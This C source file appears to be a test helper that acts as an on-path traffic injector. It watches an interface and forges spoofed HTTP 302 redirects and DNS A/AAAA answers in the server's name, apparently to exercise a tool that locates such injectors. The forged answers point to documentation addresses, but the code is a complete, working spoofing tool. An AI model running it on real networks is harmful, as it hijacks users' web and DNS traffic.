/* secondsight test forger: an on-path injector of the SecondDate / Great Cannon kind for
 * the locate test's router namespace. It watches one interface (a packet socket, the
 * packets arriving there, IPv4 and IPv6) for a request on its way to the server and,
 * on every second one it sees, races the server with a forged answer sent in the
 * server's name through a raw socket: a 302 redirect for an HTTP GET, an A or AAAA
 * record for a DNS query over UDP or TCP. The request goes on untouched (the router
 * forwards it, or drops it when its TTL runs out there). Stops on SIGTERM or after the
 * given seconds; it only ever runs inside the namespaces the test creates.
 *
 * usage: forger IFACE SECONDS */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

static volatile sig_atomic_t stop;
static int raw4 = -1, raw6 = -1;
static unsigned triggers, injected;

static void on_term(int sig)
{
    (void)sig;
    stop = 1;
}

static uint16_t get16(const uint8_t *p)
{
    return (uint16_t)(p[0] << 8 | p[1]);
}

static void put16(uint8_t *p, uint16_t v)
{
    p[0] = (uint8_t)(v >> 8);
    p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
    put16(p, (uint16_t)(v >> 16));
    put16(p + 2, (uint16_t)v);
}

static uint32_t get32(const uint8_t *p)
{
    return (uint32_t)get16(p) << 16 | get16(p + 2);
}

static uint32_t sum16(const uint8_t *p, size_t n, uint32_t sum)
{
    for (size_t i = 0; i + 1 < n; i += 2)
        sum += get16(p + i);
    if (n & 1)
        sum += (uint32_t)p[n - 1] << 8;
    return sum;
}

static uint16_t fold(uint32_t sum)
{
    while (sum >> 16)
        sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* A request seen: its addresses (IPv4 in the first 4 bytes), ports and transport. */
struct req {
    int v;
    uint8_t src[16], dst[16];
    uint8_t proto;
    uint16_t sport, dport;
    uint32_t seq, ack;        /* TCP */
    const uint8_t *payload;
    size_t len;
};

/* Sends `l4` (a TCP or UDP header and payload, checksum field zero) from the request's
 * server to its client, with an IP header of our own: TTL 64, a fresh IP-ID. */
static void send_answer(const struct req *q, uint8_t *l4, size_t l4len, size_t csum_at)
{
    uint8_t pkt[2048];
    uint32_t sum;
    if (l4len + 40 > sizeof pkt)
        return;
    if (q->v == 4) {
        memset(pkt, 0, 20);
        pkt[0] = 0x45;
        put16(pkt + 2, (uint16_t)(20 + l4len));
        put16(pkt + 4, (uint16_t)(rand() & 0xffff));
        pkt[8] = 64;
        pkt[9] = q->proto;
        memcpy(pkt + 12, q->dst, 4);
        memcpy(pkt + 16, q->src, 4);
        sum = sum16(pkt + 12, 8, 0) + q->proto + (uint32_t)l4len;
        put16(l4 + csum_at, fold(sum16(l4, l4len, sum)));
        memcpy(pkt + 20, l4, l4len);
        put16(pkt + 10, fold(sum16(pkt, 20, 0)));
        struct sockaddr_in to = {.sin_family = AF_INET};
        memcpy(&to.sin_addr, q->src, 4);
        if (sendto(raw4, pkt, 20 + l4len, 0, (struct sockaddr *)&to, sizeof to) < 0)
            perror("forger: sendto");
        else
            injected++;
        return;
    }
    memset(pkt, 0, 40);
    pkt[0] = 0x60;
    put16(pkt + 4, (uint16_t)l4len);
    pkt[6] = q->proto;
    pkt[7] = 64;
    memcpy(pkt + 8, q->dst, 16);
    memcpy(pkt + 24, q->src, 16);
    sum = sum16(pkt + 8, 32, 0) + q->proto + (uint32_t)l4len;
    put16(l4 + csum_at, fold(sum16(l4, l4len, sum)));
    memcpy(pkt + 40, l4, l4len);
    struct sockaddr_in6 to = {.sin6_family = AF_INET6};
    memcpy(&to.sin6_addr, q->src, 16);
    if (sendto(raw6, pkt, 40 + l4len, 0, (struct sockaddr *)&to, sizeof to) < 0)
        perror("forger: sendto");
    else
        injected++;
}

/* A TCP segment answering the request: our data right after what the server would send. */
static void send_tcp(const struct req *q, const uint8_t *data, size_t len, int fin)
{
    uint8_t seg[1500];
    if (len + 20 > sizeof seg)
        return;
    memset(seg, 0, 20);
    put16(seg, q->dport);
    put16(seg + 2, q->sport);
    put32(seg + 4, q->ack);
    put32(seg + 8, q->seq + (uint32_t)q->len);
    seg[12] = 5 << 4;
    seg[13] = (uint8_t)(0x18 | (fin ? 0x01 : 0)); /* PSH ACK (FIN, as SecondDate does) */
    put16(seg + 14, 8192);
    memcpy(seg + 20, data, len);
    send_answer(q, seg, 20 + len, 16);
}

/* The DNS answer to query `dns` (RFC 1035 4.1): the question turned around with one
 * record, 192.0.2.66 or 2001:db8::66. 0 when the query does not parse. */
static size_t forge_dns(const uint8_t *dns, size_t n, uint8_t *out, size_t room)
{
    size_t at = 12;
    if (n < 12)
        return 0;
    while (at < n && dns[at] && at < 12 + 255)
        at += (size_t)dns[at] + 1;
    if (at + 5 > n)
        return 0;
    size_t qend = at + 5;
    uint16_t qtype = get16(dns + at + 1);
    size_t rdlen = qtype == 28 ? 16 : 4;
    if (qend + 12 + rdlen > room)
        return 0;
    memcpy(out, dns, qend);
    out[2] = 0x81; /* QR, RD */
    out[3] = 0x80; /* RA */
    put16(out + 6, 1);
    put16(out + 8, 0);
    put16(out + 10, 0);
    uint8_t *a = out + qend;
    put16(a, 0xc00c);
    put16(a + 2, qtype == 28 ? 28 : 1);
    put16(a + 4, 1);
    put32(a + 6, 60);
    put16(a + 10, (uint16_t)rdlen);
    static const uint8_t v4[4] = {192, 0, 2, 66};
    static const uint8_t v6[16] = {0x20, 0x01, 0x0d, 0xb8, [15] = 0x66};
    memcpy(a + 12, rdlen == 16 ? v6 : v4, rdlen);
    return qend + 12 + rdlen;
}

static void forge(const struct req *q)
{
    static const char redirect[] = "HTTP/1.1 302 Found\r\nLocation: http://198.51.100.66/\r\n"
                                   "Content-Length: 0\r\nConnection: close\r\n\r\n";
    uint8_t buf[1400];
    if (q->proto == IPPROTO_TCP && q->dport == 80) {
        send_tcp(q, (const uint8_t *)redirect, sizeof redirect - 1, 1);
    } else if (q->proto == IPPROTO_TCP && q->dport == 53 && q->len > 2) {
        size_t n = forge_dns(q->payload + 2, q->len - 2, buf + 2, sizeof buf - 2);
        if (n) {
            put16(buf, (uint16_t)n);
            send_tcp(q, buf, n + 2, 0);
        }
    } else if (q->proto == IPPROTO_UDP && q->dport == 53) {
        size_t n = forge_dns(q->payload, q->len, buf + 8, sizeof buf - 8);
        if (n) {
            memset(buf, 0, 8);
            put16(buf, 53);
            put16(buf + 2, q->sport);
            put16(buf + 4, (uint16_t)(8 + n));
            send_answer(q, buf, 8 + n, 6);
        }
    }
}

/* A packet arriving on the interface: a request to answer? */
static void on_packet(const uint8_t *p, size_t n)
{
    struct req q;
    size_t hl;
    memset(&q, 0, sizeof q);
    if (n >= 20 && (p[0] >> 4) == 4) {
        hl = (size_t)(p[0] & 15) * 4;
        size_t tot = get16(p + 2);
        if (hl < 20 || tot < hl || tot > n || (get16(p + 6) & 0x3fff))
            return;
        n = tot;
        q.v = 4;
        q.proto = p[9];
        memcpy(q.src, p + 12, 4);
        memcpy(q.dst, p + 16, 4);
    } else if (n >= 40 && (p[0] >> 4) == 6) {
        hl = 40;
        if (get16(p + 4) + 40u > n)
            return;
        n = get16(p + 4) + 40u;
        q.v = 6;
        q.proto = p[6];
        memcpy(q.src, p + 8, 16);
        memcpy(q.dst, p + 24, 16);
    } else {
        return;
    }
    const uint8_t *l4 = p + hl;
    size_t l4len = n - hl;
    if (q.proto == IPPROTO_TCP && l4len >= 20) {
        size_t thl = (size_t)(l4[12] >> 4) * 4;
        if (thl < 20 || thl > l4len)
            return;
        q.seq = get32(l4 + 4);
        q.ack = get32(l4 + 8);
        q.payload = l4 + thl;
        q.len = l4len - thl;
    } else if (q.proto == IPPROTO_UDP && l4len >= 8) {
        q.payload = l4 + 8;
        q.len = l4len - 8;
    } else {
        return;
    }
    q.sport = get16(l4);
    q.dport = get16(l4 + 2);
    int http = q.proto == IPPROTO_TCP && q.dport == 80 && q.len >= 4 &&
               !memcmp(q.payload, "GET ", 4);
    int dns = q.dport == 53 && q.len > 12;
    if (!http && !dns)
        return;
    if (triggers++ % 2 == 0) /* every second trigger: the 1st, 3rd, 5th ... */
        forge(&q);
}

int main(int argc, char **argv)
{
    if (argc != 3) {
        fprintf(stderr, "usage: forger IFACE SECONDS\n");
        return 2;
    }
    int seconds = atoi(argv[2]);
    srand((unsigned)time(NULL) ^ (unsigned)getpid());
    signal(SIGTERM, on_term);
    signal(SIGINT, on_term);
    raw4 = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    raw6 = socket(AF_INET6, SOCK_RAW, IPPROTO_RAW);
    int pfd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_ALL));
    struct sockaddr_ll sll = {.sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_ALL),
                              .sll_ifindex = (int)if_nametoindex(argv[1])};
    if (raw4 < 0 || raw6 < 0 || pfd < 0 || !sll.sll_ifindex ||
        bind(pfd, (struct sockaddr *)&sll, sizeof sll) != 0) {
        fprintf(stderr, "forger: cannot open sockets on %s: %s\n", argv[1], strerror(errno));
        return 1;
    }
    printf("forger: ready\n");
    fflush(stdout);
    time_t end = time(NULL) + seconds;
    uint8_t buf[65536];
    while (!stop && time(NULL) < end) {
        struct pollfd p = {pfd, POLLIN, 0};
        if (poll(&p, 1, 200) <= 0)
            continue;
        struct sockaddr_ll from;
        socklen_t fl = sizeof from;
        ssize_t r = recvfrom(pfd, buf, sizeof buf, 0, (struct sockaddr *)&from, &fl);
        if (r > 0 && from.sll_pkttype != PACKET_OUTGOING)
            on_packet(buf, (size_t)r);
    }
    printf("forger: %u triggers, %u answers forged\n", triggers, injected);
    close(pfd);
    close(raw4);
    close(raw6);
    return 0;
}
